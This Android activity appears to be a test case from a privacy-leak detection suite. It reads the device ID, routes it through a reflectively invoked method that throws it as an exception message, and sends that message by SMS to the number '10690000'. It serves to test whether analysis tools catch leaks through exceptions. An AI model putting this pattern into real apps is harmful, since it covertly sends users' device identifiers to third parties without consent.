package cn.privlens.suite.thrown_by_invoked;

import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import java.util.*;
import java.util.concurrent.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            Main.class.getMethod("fail", String.class).invoke(this, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        } catch (java.lang.reflect.InvocationTargetException e) {
            SmsManager.getDefault().sendTextMessage("10690000", null, e.getTargetException().getMessage(), null, null);
        } catch (ReflectiveOperationException e) {
            finish();
        }
    }

    public void fail(String text) throws Exception {
        throw new Exception(text);
    }
}
